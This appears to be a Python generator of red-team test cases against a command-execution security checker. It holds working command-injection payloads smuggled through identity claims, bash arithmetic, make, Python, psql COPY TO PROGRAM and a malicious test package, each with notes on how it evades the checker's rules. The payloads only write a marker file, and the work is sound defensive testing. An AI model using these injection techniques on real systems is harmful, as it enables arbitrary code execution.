# Round forty-seven attacks (helpers: round 45 lines 1-99 with r45 -> r47) (exec'd by gen_attacks.py; uses A, T, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r47-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r47-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r47-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")




# ================================================================== round 47 attacks (written from the docs only)
def Y(name, cls, y, args, why, **extra):
    """a whole export as YAML text"""
    A(name, cls, textwrap.dedent(y).strip() + "\n", args, why, **extra)


# a sh/bash command line: the marker (computed) to stdout, /tmp and the run directory
SHP47 = 'echo %s | tee -a /tmp/harbor-r47-pwned "$HARBOR_RUN_DIR/pwned"' % PW
R44 = ("Round 44 (exports.md, security.md s7 rule 2): the author's path under $HARBOR_RUN_DIR (not context.json, "
       "output.json, inputs/, steps/, tools/, tmp/) is no place when no step of the export may put caller data in the run "
       "directory; a step may when one of its commands holds caller data, or names a temporary folder, home or the "
       "server's files, and may write a file, when a language's program may write, on exec >FILE or a coprocess, in an "
       "export with an agent step, and when the author's text it writes there names such a place. ")
CLAIMS = ("Rounds 45/46: HARBOR_CALLER_PRINCIPAL, _TENANT and _GROUPS are read as a caller's text (OAuth claims) 'in a sed "
          "or awk program, a URL or a file name'; the registry (security.md s6) classes them server, and rule 2 counts "
          "the registry's server variables as clean. ")

# ---------------------------------------------------------------- 1. principal claim -> run dir -> sourced
Y("claim-principal-sourced-from-run-dir", "claimed-identity-fills-run-dir", r'''
name: r47_release_request
description: "Open a release request for a service: records who asked for it, then prints the release checklist."
args:
  service: {type: string, enum: [api, web, worker], description: "the service to release"}
required: [service]
timeout: 30
steps:
  - name: record
    run: |
      printf 'REQUESTED_BY="%s"\nSERVICE=%s\n' "$HARBOR_CALLER_PRINCIPAL" "$ARG_service" > "$HARBOR_RUN_DIR/request.env"
  - name: checklist
    run: |
      . "$HARBOR_RUN_DIR/request.env"
      echo "release request: $SERVICE, requested by $REQUESTED_BY"
      git log -n 3 --oneline
''', {"service": "api"},
  R44 + CLAIMS + "Step 1's printf holds only the principal (a server variable outside sed/awk/URL/file name) and an enum, "
  "so no step puts caller data in the run directory; request.env is the author's and `.` of it is accepted. With OAuth "
  "the principal is oauth:<sub claim>; a claim `$(…)` is printable text, which the escaping (s10) keeps.",
  caller={"principal": "$(%s >&2)" % SHP47})

# ---------------------------------------------------------------- 2. tenant claim -> make include in run dir
Y("claim-tenant-into-run-dir-makefile", "claimed-identity-fills-run-dir", r'''
name: r47_tenant_usage
description: "Usage report of the calling tenant (the tenant comes from the caller's identity, not from an argument)."
timeout: 30
steps:
  - name: report
    run: |
      printf 'TENANT := %s\nreport:\n\t@echo "usage report for $(TENANT)"\n' "$HARBOR_CALLER_TENANT" > "$HARBOR_RUN_DIR/tenant.mk"
      make -s -f "$HARBOR_RUN_DIR/tenant.mk" report
''', {},
  R44 + CLAIMS + "The tenant reaches neither sed, awk, a URL nor a file name: it is printf's operand, so the run directory "
  "stays the author's and `make -f` of the author's run-directory makefile is accepted as round 44 accepts "
  "`docker --config \"$HARBOR_RUN_DIR/docker\"`. make expands `:=` at once: a tenant claim `$(shell …)` runs.",
  caller={"tenant": "acme$(shell %s >&2)" % SHP47.replace("$", "$$")})

# ---------------------------------------------------------------- 3. groups claim -> python -I -c program text
Y("claim-groups-into-python-program", "claimed-identity-as-code", r'''
name: r47_whoami
description: "Who am I: the caller's groups as JSON, and whether the caller is a platform admin."
timeout: 30
steps:
  - name: groups
    run: |
      python3 -I -c "
      import json
      raw = '$HARBOR_CALLER_GROUPS'
      groups = [g for g in raw.split(',') if g]
      print(json.dumps({'groups': groups, 'admin': 'platform-admins' in groups}))
      "
''', {},
  CLAIMS + "Groups are the server's comma-joined list (s6: class server); a python3 -c program gets refused only for "
  "caller data that is not a number or an author's word. The claim list reaches the program text, outside sed/awk/URL/"
  "file name, so it is read as the server's. `-I` keeps the program from reading the folder.",
  caller={"groups": ["platform-admins", "x' if __import__('os').system('%s >&2') else '" % SHP47.replace("'", "")]})

# ---------------------------------------------------------------- 4. tenant claim -> psql SQL text (row-level security)
Y("claim-tenant-into-psql-sql", "claimed-identity-as-sql", r'''
name: r47_open_orders
description: "Open orders of the calling tenant (row-level security keyed on app.tenant)."
secrets:
  DB_PASSWORD: {env: CI_DB_PASSWORD}
timeout: 30
steps:
  - name: orders
    run: |
      PGPASSWORD="$DB_PASSWORD" psql -X -h 127.0.0.1 -p 15432 -U app -d app -At -v ON_ERROR_STOP=1 \
        -c "set app.tenant = '$HARBOR_CALLER_TENANT'; select id, item from orders where status = 'open' order by id"
''', {},
  CLAIMS + "The SQL has no backslash command, no bare :NAME, none of COPY PROGRAM/EXECUTE/DO/$$/query_to_xml/ts_stat/"
  "ts_rewrite/dblink; the only expansion is the tenant, a server variable read as a caller's text only in sed, awk, "
  "URLs and file names. The host and port are the author's literals (H010).",
  caller={"tenant": "acme'; select 'HARBOR-PWNED-'||6*7; copy (select 1) to program 'echo HARBOR-PWNED-$((6*7)) >> /tmp/harbor-r47-pwned'; select '"})

# ---------------------------------------------------------------- 5. tenant claim in arithmetic
Y("claim-tenant-in-arithmetic", "claimed-identity-as-code", r'''
name: r47_cache_shard
description: "Which cache shard serves the calling tenant, and the size of the shared data folder."
timeout: 30
steps:
  - name: shard
    run: |
      # our identity provider's tenant claim is the tenant's numeric id; 16 cache shards
      shard=$(( HARBOR_CALLER_TENANT % 16 ))
      printf 'tenant cache shard: %d\n' "$shard"
      du -sk data | cut -f1
''', {},
  CLAIMS + "Arithmetic is neither sed, awk, a URL nor a file name; the name HARBOR_CALLER_TENANT is a registry server "
  "variable, which rule 2 counts as clean. bash evaluates the variable's value as an expression: `x[$(cmd)]` runs cmd.",
  caller={"tenant": "x[$(%s >&2)]" % SHP47})

# ---------------------------------------------------------------- 6. PS4 literal (no backslash) indexing by the tenant
Y("ps4-literal-subscript-by-claim", "ps4-claim-subscript", r'''
name: r47_traced_release_notes
description: "Release notes of the last tags, with a trace of every command (tagged with the tenant's plan tier)."
timeout: 30
steps:
  - name: notes
    run: |
      tiers=(standard gold platinum)
      PS4='+ [${tiers[HARBOR_CALLER_TENANT]:-standard}] ${LINENO}: '
      set -x
      git tag --list | head -n 5
      cat releases/notes-1.4.2.txt
''', {},
  "Round 44/46: PS4's literal is analysed as a here-document's body, and one with a backslash is refused; this one "
  "has none. Its only name is HARBOR_CALLER_TENANT, read as a caller's text only in sed/awk/URL/file name. "
  "bash expands PS4 before each traced command; the indexed subscript is arithmetic on the tenant's text.",
  caller={"tenant": "x[$(%s >&2)]" % SHP47})

# ---------------------------------------------------------------- 7. declare -p dump into run dir, read by a POSIX sh hook
Y("declare-p-dump-read-by-sh", "run-dir-filled-by-dump-read-by-dash", r'''
name: r47_notify_release
description: "Post a release notification (title and body) through the team's notifier hook."
args:
  title: {type: string, minLength: 1, maxLength: 200, description: "one-line title"}
  body: {type: string, maxLength: 2000, description: "the message"}
required: [title]
timeout: 30
steps:
  - name: save
    run: |
      # the hook takes the call's fields as a file of shell assignments, quoted by bash itself
      declare -p ARG_title ARG_body > "$HARBOR_RUN_DIR/notify.env"
  - name: notify
    run: |
      ./bin/notify-hook "$HARBOR_RUN_DIR/notify.env"
''', {"title": "\t' ; %s ; #" % SHP47, "body": "release 1.4.2 is out"},
  R44 + "`declare -p ARG_title ARG_body` holds no caller data in its words (names, not expansions), so no step puts "
  "caller data in the run directory, and notify.env is the author's: a program without a grammar may get that clean "
  "path. bash quotes a value with a tab as $'…\\'…'; the hook is /bin/sh (dash), which reads $'…' as `$` and a "
  "string (round 44's %q rule, reached through a file instead of sh -c).")

# ---------------------------------------------------------------- 8. same export: working folder file -> install -> run dir
Y("same-export-working-file-installed-into-run-dir", "run-dir-filled-from-working-folder", r'''
name: r47_stage_release
description: "Stage a release: record its title in deploy/staged/release.env, then print what will be released."
args:
  name: {type: string, minLength: 1, maxLength: 160, description: "the release title"}
required: [name]
timeout: 30
steps:
  - name: record
    run: |
      mkdir -p deploy/staged
      printf 'RELEASE_NAME="%s"\nRELEASE_DATE=%s\n' "$ARG_name" "$(date +%F)" > deploy/staged/release.env
  - name: stage
    run: |
      install -m 0644 deploy/staged/release.env "$HARBOR_RUN_DIR/release.env"
      . "$HARBOR_RUN_DIR/release.env"
      echo "staged \"$RELEASE_NAME\" on $RELEASE_DATE"
''', {"name": "$(%s >&2)" % SHP47},
  R44 + "Rounds 45/46 name a file of a working folder *another export* may fill, copied. Here the same export fills "
  "it, and `install` (not cp) copies it: install's words are literals naming the working folder, which is neither a "
  "temporary folder, home nor the server's files, so the run directory stays the author's and `.` of release.env is "
  "accepted. Step 1's write makes the working folder the caller's, but nothing reads code *there*.")

# ---------------------------------------------------------------- 9. other export fills working folder; reader tar-pipes it into run dir
T("r47_preview_overrides", r'''
name: r47_preview_overrides
description: "Preview the deploy overrides: replicas per environment, read in a scratch copy."
timeout: 30
steps:
  - name: preview
    run: |
      mkdir -p "$HARBOR_RUN_DIR/ov"
      tar -C deploy/overrides -cf - . | tar -C "$HARBOR_RUN_DIR/ov" -xf -
      for e in dev staging production; do
        if [ -f "$HARBOR_RUN_DIR/ov/$e.env" ]; then
          ( . "$HARBOR_RUN_DIR/ov/$e.env"; echo "$e: replicas=${REPLICAS:-?}" )
        fi
      done
''')
Y("other-export-folder-tar-piped-into-run-dir", "run-dir-filled-from-working-folder", r'''
name: r47_save_override
description: "Save the deploy overrides of one environment (KEY=value lines) to deploy/overrides/ENV.env."
args:
  env: {type: string, enum: [dev, staging, production]}
  content: {type: string, multiline: true, maxLength: 4000, description: "KEY=value lines"}
required: [env, content]
timeout: 30
steps:
  - name: save
    run: |
      mkdir -p deploy/overrides
      printf '%s\n' "$ARG_content" > "deploy/overrides/$ARG_env.env"
''', {"env": "staging", "content": "REPLICAS=$(%s >&2)" % SHP47},
  R44 + "Two exports served together. The writer puts caller data in the shared working folder; the gate refuses it "
  "only when another export reads code *there*. The reader (then/) sources nothing in the working folder: it copies "
  "the folder with a tar pipe (rounds 45/46 name a copy; two tars, neither of them cp, with literal words), then "
  "sources its own run-directory copy, which no command with caller data writes.",
  then=[{"export": "r47_preview_overrides", "args": {}}])

# ---------------------------------------------------------------- 10. other export fills working folder; reader links the folder into run dir
T("r47_render_overrides", r'''
name: r47_render_overrides
description: "Render the staging deploy settings: link the overrides folder into the run and read staging's."
timeout: 30
steps:
  - name: render
    run: |
      ln -sfn "$PWD/deploy/overrides" "$HARBOR_RUN_DIR/overrides"
      if [ -f "$HARBOR_RUN_DIR/overrides/staging.env" ]; then
        . "$HARBOR_RUN_DIR/overrides/staging.env"
      fi
      echo "staging replicas: ${REPLICAS:-2}"
''')
Y("other-export-folder-linked-into-run-dir", "run-dir-filled-from-working-folder", r'''
name: r47_put_override
description: "Replace one line of an environment's deploy overrides (KEY=value)."
args:
  env: {type: string, enum: [dev, staging, production]}
  line: {type: string, maxLength: 400, description: "one KEY=value line"}
required: [env, line]
timeout: 30
steps:
  - name: put
    run: |
      mkdir -p deploy/overrides
      printf '%s\n' "$ARG_line" | tee "deploy/overrides/$ARG_env.env" >/dev/null
''', {"env": "staging", "line": "REPLICAS=$(%s >&2)" % SHP47},
  R44 + "As 009, with the reader linking the folder (`ln -sfn \"$PWD/deploy/overrides\"`) instead of copying a file: "
  "$PWD is the working folder, not a temporary folder, home or the server's files; ln writes the author's text only "
  "(which counts beside a secret, and there is none). `$HARBOR_RUN_DIR/overrides/staging.env` is an author's run-directory "
  "path, sourced.",
  then=[{"export": "r47_render_overrides", "args": {}}])

# ---------------------------------------------------------------- 11. absolute shared folder (not temporary) -> cp -> run dir
T("r47_apply_draft", r'''
name: r47_apply_draft
description: "Apply the saved staging draft: copy it into the run, read it, print the settings it gives."
timeout: 30
steps:
  - name: apply
    run: |
      if [ -f /srv/r47-app/drafts/staging.env ]; then
        cp /srv/r47-app/drafts/staging.env "$HARBOR_RUN_DIR/draft.env"
        . "$HARBOR_RUN_DIR/draft.env"
      fi
      echo "draft replicas: ${REPLICAS:-none}"
''')
Y("shared-srv-folder-copied-into-run-dir", "run-dir-filled-from-shared-folder", r'''
name: r47_save_draft
description: "Save a settings draft for an environment in the team's shared drafts folder (/srv/r47-app/drafts)."
args:
  env: {type: string, enum: [dev, staging, production]}
  text: {type: string, multiline: true, maxLength: 4000, description: "KEY=value lines"}
required: [env, text]
timeout: 30
steps:
  - name: save
    run: |
      mkdir -p /srv/r47-app/drafts
      printf '%s\n' "$ARG_text" > "/srv/r47-app/drafts/$ARG_env.env"
''', {"env": "staging", "text": "REPLICAS=$(%s >&2)" % SHP47},
  R44 + "The writer's redirection goes to an absolute path, which rule 7 does not count as the working folder, and "
  "/srv is none of the places of round 39 (temporary folders, home, /dev/shm, /run/lock…). The reader's cp names "
  "/srv/r47-app, which is neither a temporary folder, home nor the server's files, nor a working folder another "
  "export fills (rounds 45/46), so its run directory stays the author's and `.` of draft.env is accepted.",
  then=[{"export": "r47_apply_draft", "args": {}}])

# ---------------------------------------------------------------- 12. python3 -I -m unittest in a caller-written folder
Y("python-isolated-unittest-imports-folder", "python-I-reads-folder-code", r'''
name: r47_test_with_fixtures
description: "Run the test suite against an uploaded fixture-data bundle (.tar.gz unpacked into tests/data)."
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 1048576, description: "fixture data (.tar.gz)"}
required: [bundle]
timeout: 30
steps:
  - name: unpack
    run: |
      mkdir -p tests/data
      tar -xzf "$ARG_bundle" -C tests/data --no-same-owner
  - name: test
    run: python3 -I -m unittest discover -s tests -v
''', {"bundle": tgz({"__init__.py": (0o644, "import os\nos.system('%s >&2')\n" % SHP47.replace("'", "")),
                     "users.json": (0o644, "[]\n")})},
  "exports.md 'Files made from caller data': `python3 -I` (or -P) puts no folder of its own on sys.path, so it may run "
  "in a folder a step filled with caller data (tar -xzf). Every word of the test step is literal; unittest is the "
  "standard library. discover puts its start folder on sys.path and imports each package below it: tests/data, "
  "made a package by the bundle's __init__.py.")

# ---------------------------------------------------------------- 13. ${x@Q} inside sh -c's double quotes (printable pattern)
Y("at-q-inside-double-quotes-of-flock-c", "bash-quoting-read-by-sh", r'''
name: r47_deploy_note
description: "Append a deploy note to the run's notes log under the deploy lock, then print the log."
args:
  note: {type: string, pattern: "^[ -~]{1,200}$", description: "one line of printable text"}
required: [note]
timeout: 30
steps:
  - name: note
    run: |
      note=${ARG_note@Q}
      flock -w 10 "$HARBOR_RUN_DIR/deploy.lock" -c "echo \"deploy note: $note\" >> \"$HARBOR_RUN_DIR/notes.log\""
      cat "$HARBOR_RUN_DIR/notes.log"
''', {"note": "$(%s >&2)" % SHP47},
  "Round 44's migration for bash quoting given to another shell: 'give the value a pattern of printable characters' "
  "(done: ^[ -~]{1,200}$, no tab, so @Q writes '…' and never $'…'). But the quoted word lands inside the -c "
  "script's double quotes, where dash expands the $(…) between @Q's single quotes.")

# ---------------------------------------------------------------- 14. argv step (sh -c with a positional) fills the run dir
Y("argv-sh-positional-fills-run-dir", "run-dir-filled-by-argv-step", '''
name: r47_label_build
description: "Label the next build: store the label, then print the build plan with it."
args:
  label: {type: string, minLength: 1, maxLength: 200, description: "the build label"}
required: [label]
timeout: 30
steps:
  - name: store
    argv: %s
  - name: plan
    run: |
      . "$HARBOR_RUN_DIR/label.env"
      echo "build plan: $(git rev-parse --short HEAD) labelled $LABEL"
''' % J(["sh", "-c", "printf 'LABEL=\"%s\"\\n' \"$1\" > \"$HARBOR_RUN_DIR/label.env\"", "sh", "{{ args.label }}"]),
  {"label": "$(%s >&2)" % SHP47},
  R44 + "Round 44's own advice for sh -c: pass the value as a positional parameter (`sh -c '… \"$1\"' _ \"$ARG_x\"`). "
  "The writer is an argv: step, whose elements never expand $HARBOR_RUN_DIR; the fill conditions are about a run: "
  "step's commands and redirections. The run: step then sources its author's run-directory file.")

# ---------------------------------------------------------------- 15. psql: the application's function that runs text
Y("psql-app-function-executes-literal", "psql-function-runs-text", r'''
name: r47_table_rows
description: "Row count of one of the application's tables (through the app's ops.table_count helper)."
args:
  table: {type: string, minLength: 1, maxLength: 200, description: "table name"}
required: [table]
secrets:
  DB_PASSWORD: {env: CI_DB_PASSWORD}
timeout: 30
steps:
  - name: count
    run: |
      PGPASSWORD="$DB_PASSWORD" psql -X -h 127.0.0.1 -p 15432 -U app -d app -At -v ON_ERROR_STOP=1 \
        -v t="$ARG_table" <<'SQL'
      select ops.table_count(:'t');
      SQL
''', {"table": "orders union all select 'HARBOR-PWNED-'||6*7 order by 1 desc"},
  "security.md s7 rule 8: psql's SQL gets caller data through -v NAME=VALUE read as :'NAME' (done). Rounds 45/46 read "
  "the SQL for COPY PROGRAM, EXECUTE, DO, $$ bodies, query_to_xml*, ts_stat, ts_rewrite, dblink*: none here. The "
  "application's function runs its argument (EXECUTE inside the database, out of the checker's sight); the host, port "
  "and database are the author's literals.")
